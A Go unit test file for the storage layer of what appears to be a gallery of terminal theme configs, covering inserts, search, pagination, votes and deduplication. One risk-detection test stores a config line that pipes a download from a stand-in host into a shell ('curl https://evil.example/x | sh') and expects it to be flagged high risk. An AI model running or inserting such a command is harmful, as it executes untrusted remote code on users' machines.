/*
MIT License

Copyright (c) 2025 Yuval Adar <adary@adary.org>

Permission is hereby granted, free of charge, to any person obtaining a copy
of this software and associated documentation files (the "Software"), to deal
in the Software without restriction, including without limitation the rights
to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
copies of the Software, and to permit persons to whom the Software is
furnished to do so, subject to the following conditions:

The above copyright notice and this permission notice shall be included in all
copies or substantial portions of the Software.

THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
SOFTWARE.
*/

package storage

import (
	"context"
	"errors"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func createTestStorage(t *testing.T, maxEntries int) *Storage {
	t.Helper()
	storage, err := New(filepath.Join(t.TempDir(), "gallery.db"), maxEntries)
	if err != nil {
		t.Fatalf("Failed to create storage: %v", err)
	}
	t.Cleanup(func() {
		storage.Close()
	})
	return storage
}

func testRecord(slug, title string) *ConfigRecord {
	return &ConfigRecord{
		ConfigMeta: ConfigMeta{
			Slug:       slug,
			Title:      title,
			Background: "#1e1e2e",
			Foreground: "#cdd6f4",
			Palette:    []string{"#000000", "#ff0000"},
			IsDark:     true,
			BgOpacity:  1,
			Tags:       []string{"dark"},
		},
		RawConfig: "background = " + "#1e1e2e\nforeground = #cdd6f4\n# " + title + "\n",
	}
}

func TestNew(t *testing.T) {
	storage := createTestStorage(t, 10)
	if storage.maxEntries != 10 {
		t.Errorf("Expected maxEntries to be 10, got %d", storage.maxEntries)
	}
	count, err := storage.Count(context.Background())
	require.NoError(t, err)
	assert.Equal(t, 0, count)
}

func TestInsertAndGet(t *testing.T) {
	ctx := context.Background()
	storage := createTestStorage(t, 0)

	size := 13.5
	rec := testRecord("tokyo-night", "Tokyo Night")
	rec.FontSize = &size
	rec.FontFamily = "JetBrains Mono"
	rec.Tags = []string{"dark", "cool"}
	require.NoError(t, storage.Insert(ctx, rec))

	assert.True(t, IsValidID(rec.ID), "generated ID %q", rec.ID)
	assert.Len(t, rec.ContentHash, 64)
	assert.Equal(t, "none", rec.RiskLevel)
	assert.Equal(t, "block", rec.CursorStyle)

	got, err := storage.GetByID(ctx, rec.ID)
	require.NoError(t, err)
	assert.Equal(t, "Tokyo Night", got.Title)
	assert.Equal(t, rec.RawConfig, got.RawConfig)
	assert.Equal(t, []string{"#000000", "#ff0000"}, got.Palette)
	assert.Equal(t, []string{"dark", "cool"}, got.Tags)
	require.NotNil(t, got.FontSize)
	assert.Equal(t, 13.5, *got.FontSize)
	assert.True(t, got.IsDark)
	assert.Equal(t, 1.0, got.BgOpacity)
	assert.False(t, got.CreatedAt.IsZero())

	bySlug, err := storage.GetBySlug(ctx, "tokyo-night")
	require.NoError(t, err)
	assert.Equal(t, rec.ID, bySlug.ID)

	exists, err := storage.SlugExists(ctx, "tokyo-night")
	require.NoError(t, err)
	assert.True(t, exists)

	exists, err = storage.SlugExists(ctx, "missing")
	require.NoError(t, err)
	assert.False(t, exists)
}

func TestInsertWithoutFontSize(t *testing.T) {
	ctx := context.Background()
	storage := createTestStorage(t, 0)

	rec := testRecord("plain", "Plain")
	require.NoError(t, storage.Insert(ctx, rec))

	got, err := storage.GetByID(ctx, rec.ID)
	require.NoError(t, err)
	assert.Nil(t, got.FontSize)
}

func TestInsertRiskLevel(t *testing.T) {
	ctx := context.Background()
	storage := createTestStorage(t, 0)

	rec := testRecord("risky", "Risky")
	rec.RawConfig = "background = #000000\ncommand = curl https://evil.example/x | sh\n"
	require.NoError(t, storage.Insert(ctx, rec))
	assert.Equal(t, "high", rec.RiskLevel)
}

func TestInsertDuplicateSlug(t *testing.T) {
	ctx := context.Background()
	storage := createTestStorage(t, 0)

	require.NoError(t, storage.Insert(ctx, testRecord("same", "First")))
	err := storage.Insert(ctx, testRecord("same", "Second"))
	require.Error(t, err)
	assert.True(t, errors.Is(err, ErrSlugTaken), "got %v", err)
}

func TestGetMissing(t *testing.T) {
	ctx := context.Background()
	storage := createTestStorage(t, 0)

	_, err := storage.GetByID(ctx, NewID())
	assert.ErrorIs(t, err, ErrNotFound)

	_, err = storage.GetBySlug(ctx, "nope")
	assert.ErrorIs(t, err, ErrNotFound)

	assert.ErrorIs(t, storage.IncrementView(ctx, NewID()), ErrNotFound)
}

func TestPruneKeepsMostPopular(t *testing.T) {
	ctx := context.Background()
	storage := createTestStorage(t, 3)

	for i := 0; i < 5; i++ {
		rec := testRecord(fmt.Sprintf("theme-%d", i), fmt.Sprintf("Theme %d", i))
		rec.VoteCount = i
		require.NoError(t, storage.Insert(ctx, rec))
	}

	count, err := storage.Count(ctx)
	require.NoError(t, err)
	assert.Equal(t, 3, count)

	for _, slug := range []string{"theme-2", "theme-3", "theme-4"} {
		exists, err := storage.SlugExists(ctx, slug)
		require.NoError(t, err)
		assert.True(t, exists, slug)
	}
}

func TestList(t *testing.T) {
	ctx := context.Background()
	storage := createTestStorage(t, 0)

	base := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	fixtures := []struct {
		slug, title, desc string
		dark              bool
		tags              []string
		votes             int
	}{
		{"nord", "Nord", "arctic blues", true, []string{"dark", "cool"}, 5},
		{"solarized-light", "Solarized Light", "classic", false, []string{"light", "warm"}, 9},
		{"gruvbox", "Gruvbox", "retro groove", true, []string{"dark", "warm", "retro"}, 1},
	}
	for i, f := range fixtures {
		rec := testRecord(f.slug, f.title)
		rec.Description = f.desc
		rec.IsDark = f.dark
		rec.Tags = f.tags
		rec.VoteCount = f.votes
		rec.CreatedAt = base.Add(time.Duration(i) * time.Hour)
		require.NoError(t, storage.Insert(ctx, rec))
	}

	slugs := func(p *Page) []string {
		var out []string
		for _, c := range p.Configs {
			out = append(out, c.Slug)
		}
		return out
	}

	dark := true
	light := false
	tests := []struct {
		name    string
		filters Filters
		want    []string
	}{
		{"popular default", Filters{}, []string{"solarized-light", "nord", "gruvbox"}},
		{"newest", Filters{Sort: "newest"}, []string{"gruvbox", "solarized-light", "nord"}},
		{"trending", Filters{Sort: "trending"}, []string{"gruvbox", "solarized-light", "nord"}},
		{"tag", Filters{Tag: "warm"}, []string{"solarized-light", "gruvbox"}},
		{"unknown tag ignored", Filters{Tag: "sparkly"}, []string{"solarized-light", "nord", "gruvbox"}},
		{"dark only", Filters{IsDark: &dark}, []string{"nord", "gruvbox"}},
		{"light only", Filters{IsDark: &light}, []string{"solarized-light"}},
		{"query title", Filters{Query: "nor"}, []string{"nord"}},
		{"query description", Filters{Query: "GROOVE"}, []string{"gruvbox"}},
		{"query sanitized", Filters{Query: "%gru'vbox;"}, []string{"gruvbox"}},
		{"no match", Filters{Query: "zzz"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			page, err := storage.List(ctx, tt.filters, 24)
			require.NoError(t, err)
			assert.Equal(t, tt.want, slugs(page))
			assert.Equal(t, len(tt.want), page.Total)
		})
	}
}

func TestListPagination(t *testing.T) {
	ctx := context.Background()
	storage := createTestStorage(t, 0)

	for i := 0; i < 5; i++ {
		rec := testRecord(fmt.Sprintf("p-%d", i), fmt.Sprintf("P %d", i))
		rec.VoteCount = 10 - i
		require.NoError(t, storage.Insert(ctx, rec))
	}

	page, err := storage.List(ctx, Filters{Page: 2}, 2)
	require.NoError(t, err)
	assert.Equal(t, 5, page.Total)
	assert.Equal(t, 2, page.Page)
	assert.Equal(t, 2, page.PerPage)
	assert.Equal(t, 3, page.TotalPages)
	require.Len(t, page.Configs, 2)
	assert.Equal(t, "p-2", page.Configs[0].Slug)

	page, err = storage.List(ctx, Filters{Page: -4}, 2)
	require.NoError(t, err)
	assert.Equal(t, 1, page.Page)
	assert.Equal(t, "p-0", page.Configs[0].Slug)

	page, err = storage.List(ctx, Filters{Page: 9}, 2)
	require.NoError(t, err)
	assert.Empty(t, page.Configs)
	assert.NotNil(t, page.Configs)
}

func TestSanitizeQuery(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"  tokyo night ", "tokyo night"},
		{"rosé-pine!", "ros-pine"},
		{"%_'", ""},
		{"a\tb", "ab"},
	}
	for _, tt := range tests {
		if got := SanitizeQuery(tt.in); got != tt.want {
			t.Errorf("SanitizeQuery(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}

	long := SanitizeQuery(strings.Repeat("a", 200))
	assert.Len(t, long, 100)
}

func TestSearch(t *testing.T) {
	ctx := context.Background()
	storage := createTestStorage(t, 0)

	for _, title := range []string{"Catppuccin Mocha", "Tokyo Night", "Catppuccin Latte"} {
		require.NoError(t, storage.Insert(ctx, testRecord(fixtureSlug(title), title)))
	}

	results, err := storage.Search(ctx, "catmo", 10)
	require.NoError(t, err)
	require.NotEmpty(t, results)
	assert.Equal(t, "Catppuccin Mocha", results[0].Title)

	results, err = storage.Search(ctx, "tokyo", 10)
	require.NoError(t, err)
	require.Len(t, results, 1)

	results, err = storage.Search(ctx, "", 2)
	require.NoError(t, err)
	assert.Len(t, results, 2)
}

func fixtureSlug(title string) string {
	return strings.ReplaceAll(strings.ToLower(title), " ", "-")
}

func TestCounters(t *testing.T) {
	ctx := context.Background()
	storage := createTestStorage(t, 0)

	rec := testRecord("counted", "Counted")
	require.NoError(t, storage.Insert(ctx, rec))

	require.NoError(t, storage.IncrementView(ctx, rec.ID))
	require.NoError(t, storage.IncrementView(ctx, rec.ID))
	require.NoError(t, storage.IncrementDownload(ctx, rec.ID))

	got, err := storage.GetByID(ctx, rec.ID)
	require.NoError(t, err)
	assert.Equal(t, 2, got.ViewCount)
	assert.Equal(t, 1, got.DownloadCount)
}

func TestVotes(t *testing.T) {
	ctx := context.Background()
	storage := createTestStorage(t, 0)

	rec := testRecord("voted", "Voted")
	require.NoError(t, storage.Insert(ctx, rec))

	count, err := storage.AddVote(ctx, rec.ID, "voter-a")
	require.NoError(t, err)
	assert.Equal(t, 1, count)

	count, err = storage.AddVote(ctx, rec.ID, "voter-b")
	require.NoError(t, err)
	assert.Equal(t, 2, count)

	count, err = storage.AddVote(ctx, rec.ID, "voter-a")
	assert.ErrorIs(t, err, ErrAlreadyVoted)
	assert.Equal(t, 2, count)

	count, err = storage.RemoveVote(ctx, rec.ID, "voter-a")
	require.NoError(t, err)
	assert.Equal(t, 1, count)

	// Removing a vote that does not exist leaves the count alone.
	count, err = storage.RemoveVote(ctx, rec.ID, "voter-a")
	require.NoError(t, err)
	assert.Equal(t, 1, count)

	_, err = storage.AddVote(ctx, NewID(), "voter-a")
	assert.ErrorIs(t, err, ErrNotFound)
}

func TestDeleteRemovesVotes(t *testing.T) {
	ctx := context.Background()
	storage := createTestStorage(t, 0)

	rec := testRecord("gone", "Gone")
	require.NoError(t, storage.Insert(ctx, rec))
	_, err := storage.AddVote(ctx, rec.ID, "voter")
	require.NoError(t, err)

	require.NoError(t, storage.Delete(ctx, rec.ID))

	var votes int
	require.NoError(t, storage.db.QueryRow("SELECT COUNT(*) FROM votes").Scan(&votes))
	assert.Equal(t, 0, votes)
}

func TestSetFeatured(t *testing.T) {
	ctx := context.Background()
	storage := createTestStorage(t, 0)

	rec := testRecord("star", "Star")
	require.NoError(t, storage.Insert(ctx, rec))
	require.NoError(t, storage.SetFeatured(ctx, rec.ID, true))

	got, err := storage.GetByID(ctx, rec.ID)
	require.NoError(t, err)
	assert.True(t, got.IsFeatured)
	assert.ErrorIs(t, storage.SetFeatured(ctx, NewID(), true), ErrNotFound)
}

func TestDeduplicateExisting(t *testing.T) {
	ctx := context.Background()
	storage := createTestStorage(t, 0)

	base := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	raw := "background = #101010\nforeground = #efefef\n"

	older := testRecord("older", "Older")
	older.RawConfig = raw
	older.CreatedAt = base
	popular := testRecord("popular", "Popular")
	popular.RawConfig = "# same theme, commented\n" + raw
	popular.CreatedAt = base.Add(time.Hour)
	popular.VoteCount = 3
	newest := testRecord("newest", "Newest")
	newest.RawConfig = raw
	newest.CreatedAt = base.Add(2 * time.Hour)
	unique := testRecord("unique", "Unique")
	unique.RawConfig = "background = #202020\n"

	for _, rec := range []*ConfigRecord{older, popular, newest, unique} {
		require.NoError(t, storage.Insert(ctx, rec))
	}

	removed, err := storage.DeduplicateExisting(ctx)
	require.NoError(t, err)
	assert.Equal(t, 2, removed)

	for slug, want := range map[string]bool{"older": false, "popular": true, "newest": false, "unique": true} {
		exists, err := storage.SlugExists(ctx, slug)
		require.NoError(t, err)
		assert.Equal(t, want, exists, slug)
	}

	removed, err = storage.DeduplicateExisting(ctx)
	require.NoError(t, err)
	assert.Equal(t, 0, removed)
}

func TestDeduplicateTieKeepsOldest(t *testing.T) {
	ctx := context.Background()
	storage := createTestStorage(t, 0)

	base := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	first := testRecord("first", "First")
	first.RawConfig = "background = #303030\n"
	first.CreatedAt = base
	second := testRecord("second", "Second")
	second.RawConfig = "background = #303030\n"
	second.CreatedAt = base.Add(time.Minute)
	require.NoError(t, storage.Insert(ctx, second))
	require.NoError(t, storage.Insert(ctx, first))

	removed, err := storage.DeduplicateExisting(ctx)
	require.NoError(t, err)
	assert.Equal(t, 1, removed)

	_, err = storage.GetBySlug(ctx, "first")
	assert.NoError(t, err)
	_, err = storage.GetBySlug(ctx, "second")
	assert.ErrorIs(t, err, ErrNotFound)
}

func TestNewIDAndValidation(t *testing.T) {
	seen := make(map[string]bool)
	for i := 0; i < 100; i++ {
		id := NewID()
		if !IsValidID(id) {
			t.Fatalf("NewID produced invalid id %q", id)
		}
		if seen[id] {
			t.Fatalf("NewID produced duplicate %q", id)
		}
		seen[id] = true
	}

	assert.True(t, IsValidID("0F8FAD5B-D9CB-469F-A165-70867728950E"))
	assert.False(t, IsValidID("not-a-uuid"))
	assert.False(t, IsValidID("0f8fad5b-d9cb-469f-a165-70867728950e1"))
}

func TestIsValidTag(t *testing.T) {
	assert.True(t, IsValidTag("high-contrast"))
	assert.False(t, IsValidTag("High-Contrast"))
	assert.False(t, IsValidTag(""))
}
